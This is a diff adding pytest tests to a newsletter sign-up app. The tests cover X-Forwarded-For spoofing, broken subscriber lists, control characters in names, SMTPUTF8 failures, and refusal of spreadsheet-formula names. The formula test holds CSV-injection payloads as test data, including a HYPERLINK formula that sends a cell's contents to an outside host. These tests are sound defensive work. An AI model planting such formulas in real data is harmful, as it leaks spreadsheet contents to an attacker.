@@ -241,6 +241,22 @@ def test_x_forwarded_for_counts_only_from_a_trusted_proxy(tmp_path: Path) -> Non
     assert via(("203.0.113.50", 1), "198.51.100.4", "e@example.org") == 429
 
 
+def test_x_forwarded_for_in_several_lines_counts_the_proxys_line(tmp_path: Path) -> None:
+    """A proxy that adds its own X-Forwarded-For line after the client's (HAProxy does): the
+    client's line cannot make each sign-up another client."""
+    app, _ = app_for(folder_with(tmp_path, "client_hourly_limit = 1"))
+    proxy = ("127.0.0.1", 40000)
+
+    def via(written: str, email: str) -> int:
+        lines = [("X-Forwarded-For", written), ("X-Forwarded-For", "198.51.100.1")]
+        return call(
+            app, "POST", "/subscribe", data={"email": email}, client=proxy, headers=lines
+        ).status_code
+
+    assert via("6.6.6.1", "a@example.org") == 200
+    assert via("6.6.6.2", "b@example.org") == 429
+
+
 def test_trusted_proxies_can_be_set(tmp_path: Path) -> None:
     """With trusted_proxies naming another network, loopback's X-Forwarded-For is ignored."""
     app, _ = app_for(
@@ -364,6 +380,29 @@ def test_purge_after_sign_up_leaves_nothing_and_the_link_stops_working(tmp_path:
     assert statuses(root) == {}
 
 
+def test_a_broken_list_logs_which_and_why_and_the_person_may_ask_again(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A list that cannot be read: the same answer, nothing stored or sent, a log line naming
+    the file and the problem (no address); once it is fixed the person may ask again at once."""
+    root = folder_with(tmp_path)
+    app, _ = app_for(root)
+    fine = sign_up(app, "other@example.org")
+    path = root / "subscribers" / "subscribers.csv"
+    path.write_bytes(b'email,name,status\r\nbob@example.org,"Bob\r\n')
+    broken = path.read_bytes()
+    with caplog.at_level("ERROR", logger="newsletter.serve"):
+        answer = sign_up(app, "ann@example.org")
+    assert (answer.status_code, answer.content) == (fine.status_code, fine.content)
+    assert path.read_bytes() == broken and [m["To"] for m in outbox(root)] == ["other@example.org"]
+    [line] = [r.getMessage() for r in caplog.records]
+    assert "sign-up not recorded" in line and f"{path}:2" in line
+    assert "@" not in line
+    path.write_bytes(b"email,name,status\r\n")
+    sign_up(app, "ann@example.org")
+    assert statuses(root) == {"ann@example.org": "pending"}
+
+
 def test_a_list_choice_when_several_lists_are_offered(tmp_path: Path) -> None:
     """With [signup] lists the form offers them; the link subscribes to the chosen one only,
     and a pending sign-up does not hold back the person's other lists."""
@@ -390,6 +429,32 @@ def test_a_bad_address_shows_the_form_again(tmp_path: Path) -> None:
     assert answer.status_code == 400
     assert "Please enter an email address" in answer.text and 'name="email"' in answer.text
     assert outbox(root) == [] and statuses(root) == {}
+
+
+def test_a_name_with_a_control_character_is_asked_again_for_that(tmp_path: Path) -> None:
+    """A control character in the name: 400 saying so (not "shorten"); a line break is only
+    white space, folded into one space."""
+    root = folder_with(tmp_path)
+    app, _ = app_for(root)
+    answer = sign_up(app, "ann@example.org", name="Ann\x00Smith")
+    assert answer.status_code == 400
+    assert "without control characters" in answer.text and "shorten" not in answer.text
+    assert sign_up(app, "bob@example.org", name="Bob\r\n Smith").status_code == 200
+    [row] = read_list(root / "subscribers" / "subscribers.csv")
+    assert (row.email, row.name) == ("bob@example.org", "Bob Smith")
+
+
+@pytest.mark.parametrize(
+    "name", ['=HYPERLINK("https://x.example.com/?"&A1)', "+1+2", "-2+3", "@SUM(1)"]
+)
+def test_a_name_a_spreadsheet_would_run_is_refused(tmp_path: Path, name: str) -> None:
+    """A name from the form that a spreadsheet reads as a formula is asked again: nothing is
+    written to the list (which people open in one) and nothing is sent."""
+    root = folder_with(tmp_path)
+    app, _ = app_for(root)
+    answer = sign_up(app, "ann@example.org", name=name)
+    assert answer.status_code == 400 and "at its start" in answer.text
+    assert statuses(root) == {} and outbox(root) == []
 
 
 def test_signup_off_means_no_form(tmp_path: Path) -> None:
@@ -500,6 +565,29 @@ def test_the_confirmation_goes_through_smtp_and_a_failed_send_can_be_retried(
     assert b"\r\nSubject: Confirm your subscription to Test news\r\n" in received.data
 
 
+def test_a_server_without_smtputf8_fails_the_confirmation_cleanly(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A non-ASCII address and a server offering neither SMTPUTF8 nor 8BITMIME: the failure is
+    logged (no traceback) and forgotten, so the person may ask again at once."""
+    root = folder_with(tmp_path)
+    text = (root / "newsletter.toml").read_text()
+    smtp = "\n[smtp]\nhost = '127.0.0.1'\nsecurity = 'none'\ntimeout = 30\nport = {}\n"
+    with SmtpServer(smtputf8=False, eight_bit=False) as old:
+        (root / "newsletter.toml").write_text(text + smtp.format(old.port))
+        app, _ = app_for(root)
+        with caplog.at_level("ERROR", logger="newsletter.serve"):
+            assert sign_up(app, "zoë@example.org").status_code == 200
+        assert old.messages == []
+    assert "confirmation not sent" in caplog.text and "SMTPUTF8" in caplog.text
+    with SmtpServer() as server:
+        (root / "newsletter.toml").write_text(text + smtp.format(server.port))
+        app, _ = app_for(root)
+        assert sign_up(app, "zoë@example.org").status_code == 200
+        [received] = server.messages
+    assert received.recipients == ("zoë@example.org",)
+
+
 @pytest.mark.parametrize(
     ("peer", "forwarded", "client"),
     [
@@ -510,6 +598,10 @@ def test_the_confirmation_goes_through_smtp_and_a_failed_send_can_be_retried(
         ("127.0.0.1", "6.6.6.6, 198.51.100.1", "198.51.100.1"),  # what the client wrote: ignored
         ("127.0.0.1", "198.51.100.1, 127.0.0.1", "198.51.100.1"),  # through two local proxies
         ("127.0.0.1", "", "127.0.0.1"),
+        ("127.0.0.1", "198.51.100.1:4711", "198.51.100.1"),  # a proxy that adds the port
+        ("127.0.0.1", "[2001:db8::7]:4711", "2001:db8::7"),
+        ("127.0.0.1", "[2001:db8::7]", "2001:db8::7"),
+        ("127.0.0.1", "6.6.6.6:80, 198.51.100.1:4711", "198.51.100.1"),
     ],
 )
 def test_the_client_behind_trusted_proxies(peer: str, forwarded: str, client: str) -> None:
